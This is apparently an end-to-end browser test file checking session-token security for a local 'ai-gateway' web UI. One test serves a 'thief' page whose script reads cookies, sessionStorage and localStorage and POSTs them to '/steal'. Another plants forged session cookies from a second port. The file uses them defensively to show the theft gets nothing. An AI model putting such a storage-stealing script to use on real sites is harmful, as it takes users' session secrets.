// The one-time UI URL in a real Chromium against `ai-gateway serve --ui` (issue 13.6) and `demo --ui`: the
// page's script trades the printed token for a session secret kept in its tab's sessionStorage and sent in a
// header, and takes the token out of the address bar. No cookie exists, so nothing reaches another port of
// 127.0.0.1 (another local user's listener), another port cannot toss one at us, and two UIs in one browser
// keep their own sessions. A HEAD or GET of the URL burns nothing; the API answers only with the header.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type IncomingHttpHeaders, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { SESSION_HEADER, SESSION_STORAGE_KEY } from '../../app/contract/web-session.js';
import { startBackend } from './harness/backend.js';
import type { E2eBackend } from './harness/backend.js';
import { launchBrowser, openSession } from './harness/browser.js';
import { startDemoUi, type DemoProcess } from './harness/demo-process.js';
import { AppWindow } from './pages/app-window.js';

let backend: E2eBackend;
let demo: DemoProcess;
let browser: Browser;
let context: BrowserContext;
let page: Page;
/** A tab on the demo's window, opened by the HEAD test. */
let demoTab: Page | undefined;
let problems: string[];
let token: string;
let origin: string;

before(async () => {
  [backend, demo] = await Promise.all([startBackend({ configured: false }), startDemoUi()]);
  token = new URL(backend.url).searchParams.get('token') ?? '';
  origin = new URL(backend.url).origin;
  browser = await launchBrowser();
  ({ context, page, problems } = await openSession(browser, backend.url));
});

after(async () => {
  await demoTab?.close();
  await context?.close();
  await browser?.close();
  await Promise.all([backend?.close(), demo?.close()]);
});

/** Calls the API from inside a page the way the renderer does: with its tab's session header, or without. */
function apiFromPage(on: Page, withSession: boolean): Promise<number> {
  // A string: this file is compiled without the DOM's types, and the function runs in the page anyway.
  return on.evaluate<number>(`(async () => {
    const secret = sessionStorage.getItem(${JSON.stringify(SESSION_STORAGE_KEY)});
    const headers = { 'content-type': 'application/json' };
    if (${String(withSession)} && secret !== null) headers[${JSON.stringify(SESSION_HEADER)}] = secret;
    const response = await fetch('./api/getStatus', { method: 'POST', headers, body: '{"args":[]}' });
    return response.status;
  })()`);
}

/** The session secret this tab holds for its origin. */
function secretOf(on: Page): Promise<string | null> {
  return on.evaluate<string | null>(`sessionStorage.getItem(${JSON.stringify(SESSION_STORAGE_KEY)})`);
}

/** Another listener on 127.0.0.1 (port 0), as another local user could run: notes every request's headers. */
async function listener(answer: (res: ServerResponse) => void): Promise<{ server: Server; port: number; seen: { url: string; headers: IncomingHttpHeaders }[] }> {
  const seen: { url: string; headers: IncomingHttpHeaders }[] = [];
  const server = createServer((req, res) => {
    seen.push({ url: req.url ?? '', headers: req.headers });
    answer(res);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, port: (server.address() as AddressInfo).port, seen };
}

/** An answer that is this HTML page. */
function html(body: string): (res: ServerResponse) => void {
  return (res) => {
    res.setHeader('content-type', 'text/html; charset=utf-8');
    res.end(`<!doctype html>${body}`);
  };
}

function closeServer(server: Server): Promise<void> {
  server.closeAllConnections();
  return new Promise((resolve) => server.close(() => resolve()));
}

test('the printed URL carries a token; opening it leaves no token in the address bar, the history or page storage', async () => {
  assert.ok(token.length >= 40, 'the URL carries a long token');
  assert.doesNotMatch(page.url(), /token/);
  assert.doesNotMatch(await page.evaluate<string>('location.href'), /token/);
  // The browser's own list of history entries (DevTools protocol): the token URL never stayed one.
  const cdp = await context.newCDPSession(page);
  const { entries } = (await cdp.send('Page.getNavigationHistory')) as { entries: { url: string }[] };
  await cdp.detach();
  assert.ok(entries.length >= 1);
  for (const entry of entries) assert.doesNotMatch(entry.url, /token=/, `history entry ${entry.url}`);
  const kept = await page.evaluate<string>('JSON.stringify({ session: { ...sessionStorage }, local: { ...localStorage }, html: document.documentElement.outerHTML })');
  assert.ok(!kept.includes(token), 'the token is in no page storage and nowhere in the page');
});

test('no cookie exists; the session secret is in this tab\'s sessionStorage only, and is not the token', async () => {
  assert.deepEqual(await context.cookies(), [], 'no cookie for any origin');
  assert.equal(await page.evaluate<string>('document.cookie'), '');
  const secret = await secretOf(page);
  assert.match(secret ?? '', /^[A-Za-z0-9_-]{43}$/);
  assert.notEqual(secret, token, 'a separate secret, not the printed token');
  assert.equal(await page.evaluate<number>('localStorage.length'), 0, 'nothing kept past the tab');
});

test('the page works with the session: reloads, a tray route in the same tab, API calls', async () => {
  await page.reload();
  await page.getByRole('heading', { level: 1 }).first().waitFor();
  await page.goto(`${origin}/#/usage`);
  await page.getByRole('heading', { level: 1 }).first().waitFor();
  assert.equal(await apiFromPage(page, true), 200);
});

test('the API refuses calls without the session header: from the page itself, and replayed from Node with a forged Origin', async () => {
  // Its own tab: the refused call's console error must not count against the page's clean console.
  const tab = await context.newPage();
  try {
    await tab.goto(origin);
    assert.equal(await apiFromPage(tab, false), 401);
  } finally {
    await tab.close();
  }
  const secret = (await secretOf(page)) ?? '';
  const replay = (headers: Record<string, string>) => fetch(`${origin}/api/getStatus`, { method: 'POST', headers: { 'content-type': 'application/json', origin, ...headers }, body: '{"args":[]}' });
  assert.equal((await replay({})).status, 401);
  assert.equal((await replay({ cookie: `ai_gateway_session=${secret}` })).status, 401, 'a cookie is no session');
  assert.equal((await replay({ [SESSION_HEADER]: token })).status, 401, 'the printed token opens nothing but the trade');
  assert.equal((await replay({ [SESSION_HEADER]: secret })).status, 200, 'the header is what counts (so it must stay in this tab)');
});

test('another 127.0.0.1 listener reached by a cross-site redirect receives no session: no Cookie header, no secret', async () => {
  const secret = (await secretOf(page)) ?? '';
  // Another local user's server: its page fetches itself (a same-site request for 127.0.0.1 cookies) and
  // reports what it can read in this browser.
  const thief = await listener(
    html(`<title>thief</title><script>
      fetch('/steal', { method: 'POST', body: JSON.stringify({ cookie: document.cookie, session: { ...sessionStorage }, local: { ...localStorage } }) })
        .then(() => { document.title = 'done'; });
    </script>`),
  );
  // A cross-site page (localhost is another site than 127.0.0.1) that only sends the browser there.
  const steer = await listener((res) => {
    res.statusCode = 302;
    res.setHeader('location', `http://127.0.0.1:${thief.port}/`);
    res.end();
  });
  const tab = await context.newPage();
  const bodies: string[] = [];
  tab.on('request', (request) => {
    if (request.url().endsWith('/steal')) bodies.push(request.postData() ?? '');
  });
  try {
    await tab.goto(`http://localhost:${steer.port}/`);
    await tab.waitForFunction("document.title === 'done'");
    assert.ok(thief.seen.length >= 2, 'the listener saw the navigation and its own fetch');
    for (const { url, headers } of thief.seen) {
      assert.equal(headers.cookie, undefined, `Cookie header on ${url}`);
      assert.equal(headers[SESSION_HEADER], undefined);
      assert.ok(!JSON.stringify(headers).includes(secret), `the secret in the headers of ${url}`);
    }
    assert.equal(bodies.length, 1);
    assert.deepEqual(JSON.parse(bodies[0]!), { cookie: '', session: {}, local: {} }, 'its page reads nothing of ours');
  } finally {
    await tab.close();
    await Promise.all([closeServer(thief.server), closeServer(steer.server)]);
  }
});

test('a cookie tossed from another 127.0.0.1 port changes nothing', async () => {
  const tosser = await listener(
    html(`<script>
      document.cookie = 'ai_gateway_session=x; path=/api';
      document.cookie = 'ai_gateway_session=y; path=/';
      document.cookie = '${SESSION_HEADER}=z; path=/';
      document.title = 'tossed';
    </script>`),
  );
  const tab = await context.newPage();
  try {
    await tab.goto(`http://127.0.0.1:${tosser.port}/`);
    await tab.waitForFunction("document.title === 'tossed'");
    assert.ok((await context.cookies(origin)).length > 0, 'the tossed cookies do reach our origin');
    await page.reload();
    await page.getByRole('heading', { level: 1 }).first().waitFor();
    assert.equal(await apiFromPage(page, true), 200);
  } finally {
    await tab.close();
    await context.clearCookies();
    await closeServer(tosser.server);
  }
});

test('a HEAD or GET of the printed URL (link previewers, terminals) does not use it up; its route fragment survives', async () => {
  for (const method of ['HEAD', 'GET']) {
    const answer = await fetch(demo.url, { method });
    assert.equal(answer.status, 200, method);
    assert.equal(answer.headers.get('set-cookie'), null);
  }
  const tab = await context.newPage();
  demoTab = tab;
  await tab.goto(`${demo.url}#/usage`);
  await tab.getByRole('heading', { level: 1, name: 'Usage' }).waitFor();
  assert.equal(new URL(tab.url()).search, '', 'the token left the address bar');
  assert.equal(new URL(tab.url()).hash, '#/usage', 'the tray route stayed');
  assert.ok((await secretOf(tab)) !== null, 'the page still got its session');
});

test('serve --ui and demo --ui in one browser, on two ports, both keep working', async () => {
  await page.reload();
  await page.getByRole('heading', { level: 1 }).first().waitFor();
  assert.equal(await apiFromPage(page, true), 200, 'serve --ui after the demo opened');
  const tab = demoTab!;
  await tab.reload();
  await tab.getByRole('heading', { level: 1, name: 'Usage' }).waitFor();
  assert.equal(await new AppWindow(tab).demoBanner().count(), 1, 'the demo tab still shows the demo');
  assert.equal(await apiFromPage(tab, true), 200, 'demo --ui after serve reloaded');
  assert.notEqual(await secretOf(tab), await secretOf(page), 'two sessions, one per origin');
  assert.deepEqual(await context.cookies(), []);
});

test('the same URL in a second browser is refused, naming the command and the fix', async () => {
  const other = await browser.newContext();
  try {
    const otherPage = await other.newPage();
    await otherPage.goto(backend.url);
    const alert = otherPage.getByRole('alert');
    await alert.waitFor();
    const text = await alert.innerText();
    assert.match(text, /This page has no session/);
    assert.match(text, /session token was already used/);
    assert.match(text, /Run `[^`]*ui-link` in a terminal for a new link and open it here \(or restart `[^`]*serve --ui`, which also restarts the proxy\), or go back to the tab that used it/);
    assert.doesNotMatch(otherPage.url(), /token/, 'the token leaves the address bar even when refused');
    assert.equal(await secretOf(otherPage), null);
    assert.equal(await apiFromPage(otherPage, true), 401);
  } finally {
    await other.close();
  }
});

test('the tab that used the URL may open it again; a new tab without it shows what to open', async () => {
  await page.goto(backend.url);
  await page.getByRole('heading', { level: 1 }).first().waitFor();
  assert.doesNotMatch(page.url(), /token/);
  assert.equal(await apiFromPage(page, true), 200);
  const stranger = await context.newPage();
  try {
    await stranger.goto(origin);
    const text = await stranger.getByRole('alert').innerText();
    assert.match(text, /This page has no session/);
    assert.match(text, /Run `[^`]*ui-link` in a terminal for a new link and open it here \(or restart `[^`]*serve --ui`/);
  } finally {
    await stranger.close();
  }
});

test('no CSP violations or page errors', () => {
  assert.deepEqual(problems, []);
});
